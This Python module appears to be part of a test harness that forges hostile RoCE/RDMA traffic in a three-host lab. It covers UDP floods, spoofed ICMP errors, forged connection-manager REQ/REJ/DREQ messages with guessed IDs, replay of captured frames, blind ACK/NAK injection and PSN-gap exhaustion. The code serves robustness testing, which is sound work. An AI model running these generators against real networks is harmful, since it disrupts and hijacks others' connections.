"""The kinds of hostile traffic. Each makes the frames of one phase; the list at the end says what they are for.

A kind may know what its comment says the attacker knows, and nothing else. None knows a PSN or a key of the transfer: against
an attacker who sees the packets RoCE has no defence.
"""

import itertools
import random
import socket
import struct
import time

import frames
from frames import SEND_MIDDLE, SEND_ONLY, bth, roce, udp

GREETING_PORT, DATAGRAM_PORT = 7472, 7473
GARBAGE_BYTES = 44
FRAME_PAYLOAD = 4096
MAD_PACKET_BYTES = 308
TCP_SERVICE = frames.service_id(frames.TCP_SPACE, GREETING_PORT)
UDP_SERVICE = frames.service_id(frames.UDP_SPACE, DATAGRAM_PORT)


class Scene:
    """What a kind may know, and a way to send and receive as the attacker's own host."""

    def __init__(self, network, server_qpn, client_qpn, group):
        self.network = network
        self.server, self.client, self.attacker = (host.address for host in network.hosts)
        self.server_qpn, self.client_qpn = server_qpn, client_qpn
        self.group = group
        self.random = random.Random()

    def to_server(self, packet):
        return self._frame(self.network.server.mac, packet)

    def to_client(self, packet):
        return self._frame(self.network.client.mac, packet)

    def to_group(self, packet):
        address = frames.ip_number(self.group) & 0x7fffff
        return self._frame("01:00:5e:%02x:%02x:%02x" % (address >> 16, address >> 8 & 0xff, address & 0xff), packet)

    def _frame(self, mac, packet):
        return frames.mac_bytes(mac) + frames.mac_bytes(self.network.attacker.mac) + b"\x08\x00" + packet

    def random_address(self):
        """Outside the network of the three hosts, so that nobody is asked for by ARP."""
        return frames.ip_text(198 << 24 | 18 << 16 | self.random.randrange(1, 1 << 17))

    def seen_ids(self):
        """A communication ID of each side, as a host knows them that was a peer of both an instant ago."""
        with self.network.server.tap(MAD_PACKET_BYTES) as tap:
            for frame in received(tap, 1):
                mad = frame[frames.HEADERS + 20:]
                (attribute,) = struct.unpack_from(">H", mad, 16)
                local, remote = struct.unpack_from(">II", mad, 24)
                if attribute in (frames.RTU, frames.DREQ):
                    return {"client": local, "server": remote}
        raise RuntimeError("no connection was made within a second, so no communication ID was seen")

    def capture(self, count):
        """Packets of the transfer as they arrive at the server, one frame each."""
        packets = []
        with self.network.server.tap() as tap:
            for frame in itertools.islice(received(tap, 2), count):
                packet = frame[frames.ETHERNET_BYTES:]
                if socket.inet_ntoa(packet[12:16]) == self.client:
                    packets += frames.cut_segments(packet)
        if not packets:
            raise RuntimeError("no packet of the transfer was seen within two seconds")
        return packets

    def connect(self):
        """A handshake of the attacker's own host; the server's queue pair and the PSN it expects."""
        own_id = self.random.randrange(1, 1 << 32)
        request = frames.connect_request(own_id, TCP_SERVICE, self.random.randrange(1, 1 << 63), 0x000500, self.attacker, self.server)
        with self.network.attacker.tap() as raw:
            for _ in range(10):
                raw.send(self.to_server(frames.management(self.attacker, self.server, frames.REQ, own_id, request)))
                answer = self._reply_to(raw, own_id)
                if answer is not None:
                    break
            else:
                raise RuntimeError("the server did not accept a connection of the attacker's own host")
            server_id, qpn, start_psn = answer
            raw.send(self.to_server(frames.management(self.attacker, self.server, frames.RTU, own_id, frames.ready(own_id, server_id))))
            # The greeting is acknowledged, so that the server has nothing to retransmit.
            time.sleep(0.05)
            raw.send(self.to_server(roce(self.attacker, self.server,
                                         bth(frames.ACKNOWLEDGE, qpn, frames.REQ_PSN) + frames.aeth(frames.ACK, 1))))
        # The REQ named the PSN the attacker expects, the server's REP the one the server does.
        return qpn, start_psn

    def _reply_to(self, raw, own_id):
        for frame in received(raw, 0.3):
            mad = frame[frames.HEADERS + 20:]
            if len(frame) >= frames.ETHERNET_BYTES + MAD_PACKET_BYTES and struct.unpack_from(">H", mad, 16)[0] == frames.REP:
                local, remote, _, qpn, _, psn = struct.unpack_from(">IIIIII", mad, 24)
                if remote == own_id:
                    return local, qpn >> 8, psn >> 8
        return None


def received(tap, seconds):
    """The frames that arrive in that time."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            yield tap.recv(1 << 17)
        except socket.timeout:
            continue


def garbage(scene, count):
    """Random bytes from one address that does not exist."""
    source = scene.random_address()
    return [scene.to_server(udp(source, scene.server, scene.random.randbytes(GARBAGE_BYTES))) for _ in range(count)]


def one_hash(scene, count):
    """Random bytes from 16000 sources whose address + port is one number, the hash of Java's InetSocketAddress."""
    first = frames.ip_number("198.18.0.1")
    return [scene.to_server(udp(frames.ip_text(first + k), scene.server, scene.random.randbytes(GARBAGE_BYTES), (60000 - k, 4791)))
            for k in (number % 16000 for number in range(count))]


def random_sources(scene, count):
    """Random bytes, each from another address and port."""
    return [scene.to_server(udp(scene.random_address(), scene.server, scene.random.randbytes(GARBAGE_BYTES),
                                (scene.random.randrange(1024, 65536), 4791))) for _ in range(count)]


def noise(scene, count):
    """Random bytes as long as a frame, in the name of the client: the interface may join them with good frames."""
    length = frames.BTH_BYTES + FRAME_PAYLOAD + frames.ICRC_BYTES
    noises = [scene.random.randbytes(length) for _ in range(64)]
    return [scene.to_server(udp(scene.client, scene.server, noises[number % 64])) for number in range(count)]


def truncated(scene, count):
    """Frames of the transfer, in the name of the client, cut off after 1 to 40 bytes."""
    result = []
    for _ in range(count):
        whole = bth(SEND_MIDDLE, scene.server_qpn, scene.random.randrange(1 << 24)) + bytes(32)
        result.append(scene.to_server(udp(scene.client, scene.server, whole[:scene.random.randrange(1, 41)])))
    return result


def wrong_icrc(scene, count):
    """Whole frames in the name of the client, right queue pair, any PSN, wrong ICRC."""
    payload = scene.random.randbytes(FRAME_PAYLOAD)
    few = [roce(scene.client, scene.server, bth(SEND_MIDDLE, scene.server_qpn, scene.random.randrange(1 << 24)) + payload, good=False)
           for _ in range(256)]
    return [scene.to_server(few[number % 256]) for number in range(count)]


def fragmentation_needed(scene, count):
    """ICMP "fragmentation needed", MTU 576, to the client about its way to the server."""
    quoted = udp(scene.client, scene.server, bytes(8))
    return [scene.to_client(frames.icmp_error(scene.random_address(), scene.client, 4, quoted, 576)) for _ in range(count)]


def port_unreachable(scene, count):
    """ICMP "port unreachable" to both sides, in the name of the other."""
    to_client = scene.to_client(frames.icmp_error(scene.server, scene.client, 3, udp(scene.client, scene.server, bytes(8))))
    to_server = scene.to_server(frames.icmp_error(scene.client, scene.server, 3, udp(scene.server, scene.client, bytes(8))))
    return [to_client if number % 2 else to_server for number in range(count)]


def request_of(scene, source, communication_id, named=None, timeout=20):
    body = frames.connect_request(communication_id, TCP_SERVICE, scene.random.randrange(1, 1 << 63), scene.random.randrange(2, 1 << 24),
                                  source, scene.server, named, timeout)
    return frames.management(source, scene.server, frames.REQ, communication_id, body)


def req_flood(scene, count):
    """REQ for a port that listens, each from another address."""
    return [scene.to_server(request_of(scene, scene.random_address(), scene.random.randrange(1, 1 << 32))) for _ in range(count)]


def req_and_rej(scene, count):
    """REQ with the longest timeouts and a REJ of it before it can be answered, each pair from another address."""
    result = []
    while len(result) < count:
        source, own_id = scene.random_address(), scene.random.randrange(1, 1 << 32)
        result.append(scene.to_server(request_of(scene, source, own_id, timeout=31)))
        result.append(scene.to_server(frames.management(source, scene.server, frames.REJ, own_id, frames.reject(own_id, 0, 0))))
    return result[:count]


def req_for_others(scene, count):
    """REQ from the attacker's true address whose primary local GID is a victim, a group, all hosts or the server."""
    victims = ("198.51.100.9", "239.1.2.3", "255.255.255.255", scene.server)
    return [scene.to_server(request_of(scene, scene.attacker, scene.random.randrange(1, 1 << 32), victims[number % len(victims)]))
            for number in range(count)]


def guessed_ids(scene, count):
    """REJ to the server and REP to the client with IDs near those of an earlier connection, sender ID 0 included."""
    seen, result = scene.seen_ids(), []
    while len(result) < count:
        near = len(result) // 2 % 4096 - 1024
        server_id, client_id = seen["server"] + near & 0xffffffff, seen["client"] + near & 0xffffffff
        sender = 0 if len(result) % 4 == 0 else client_id
        result.append(scene.to_server(frames.management(scene.client, scene.server, frames.REJ, server_id,
                                                        frames.reject(sender, server_id, 1))))
        result.append(scene.to_client(frames.management(scene.server, scene.client, frames.REP, client_id,
                                                        frames.reply(server_id, client_id, 0xabcdef, scene.random.randrange(1 << 63)))))
    return result[:count]


def sidr_flood(scene, count):
    """SIDR_REQ for a service that exists, each from another address."""
    result = []
    for _ in range(count):
        source, own_id = scene.random_address(), scene.random.randrange(1, 1 << 32)
        body = frames.resolution_request(own_id, UDP_SERVICE, source, scene.server)
        result.append(scene.to_server(frames.management(source, scene.server, frames.SIDR_REQ, own_id, body)))
    return result


def dreq(scene, count):
    """DREQ in the name of each side, right queue pair, IDs near those of an earlier connection."""
    seen, result = scene.seen_ids(), []
    while len(result) < count:
        near = len(result) // 2 % 4096 - 1024
        server_id, client_id = seen["server"] + near & 0xffffffff, seen["client"] + near & 0xffffffff
        result.append(scene.to_server(frames.management(scene.client, scene.server, frames.DREQ, server_id, frames.disconnect_request(
            client_id, server_id, scene.server_qpn))))
        result.append(scene.to_client(frames.management(scene.server, scene.client, frames.DREQ, client_id, frames.disconnect_request(
            server_id, client_id, scene.client_qpn))))
    return result[:count]


def multicast(scene, count):
    """Random bytes, and good datagrams with a wrong queue key, to a group that the server has joined."""
    result = []
    for number in range(count):
        source = scene.random_address()
        if number % 2:
            packet = udp(source, scene.group, scene.random.randbytes(GARBAGE_BYTES))
        else:
            packet = frames.datagram(source, scene.group, 0xffffff, 0x0badcafe, bytes(GARBAGE_BYTES - 24))
        result.append(scene.to_group(packet))
    return result


def long_datagrams(scene, count):
    """Good datagrams with the right queue key to that group, longer than the receives posted for them."""
    few = [frames.datagram(scene.attacker, scene.group, 0xffffff, frames.CM_QUEUE_KEY, bytes(2048), psn) for psn in range(64)]
    return [scene.to_group(few[number % 64]) for number in range(count)]


def payload(_, __):
    """No frames: the messages of the transfer hold what looks like frames, behind every boundary a smaller MTU has."""
    return []


def replay(scene, count):
    """Frames of the transfer, captured at the server a moment ago, unchanged."""
    captured = scene.capture(64)
    return [scene.to_server(captured[number % len(captured)]) for number in range(count)]


def blind_naks(scene, count):
    """PSN sequence and RNR NAKs to the client, right queue pair and ICRC, PSNs over the whole range."""
    return [scene.to_client(roce(scene.server, scene.client, bth(frames.ACKNOWLEDGE, scene.client_qpn, scene.random.randrange(1 << 24))
                                 + frames.aeth((frames.PSN_NAK, frames.RNR_NAK)[number % 2], scene.random.randrange(1 << 24))))
            for number in range(count)]


def blind_acks(scene, count):
    """ACKs to the client, right queue pair and ICRC, PSNs over the whole range."""
    return [scene.to_client(roce(scene.server, scene.client, bth(frames.ACKNOWLEDGE, scene.client_qpn, scene.random.randrange(1 << 24))
                                 + frames.aeth(frames.ACK, scene.random.randrange(1 << 24)))) for number in range(count)]


def forged_requests(scene, count):
    """Requests to the server, right queue pair and ICRC, PSNs in steps of 1000 so that some lie inside the window."""
    first, forged = scene.random.randrange(1 << 24), b"\xee" * 256
    return [scene.to_server(roce(scene.client, scene.server, bth(SEND_MIDDLE, scene.server_qpn, first + 1000 * number) + forged))
            for number in range(count)]


def gaps(scene, count):
    """A peer that connected honestly with eight queue pairs and sends what follows a gap it never closes."""
    pairs, content = [scene.connect() for _ in range(8)], bytes(1024)
    few = [scene.to_server(roce(scene.attacker, scene.server, bth(SEND_ONLY, qpn, psn + 1 + ahead) + content))
           for ahead in range(640) for qpn, psn in pairs]
    return [few[number % len(few)] for number in range(count)]


class Kind:
    def __init__(self, name, make):
        self.name, self.make = name, make
        self.about = " ".join(make.__doc__.split())


KINDS = [Kind(name, make) for name, make in (
    ("garbage", garbage), ("one-hash", one_hash), ("random-sources", random_sources), ("noise", noise), ("truncated", truncated),
    ("wrong-icrc", wrong_icrc), ("icmp-fragmentation", fragmentation_needed), ("icmp-unreachable", port_unreachable), ("req", req_flood),
    ("req-rej", req_and_rej), ("req-other-gid", req_for_others), ("rep-rej-guessed", guessed_ids), ("dreq-guessed", dreq),
    ("sidr", sidr_flood), ("multicast", multicast), ("long-datagrams", long_datagrams), ("payload", payload), ("replay", replay),
    ("blind-naks", blind_naks), ("blind-acks", blind_acks), ("forged-requests", forged_requests), ("gaps", gaps))]
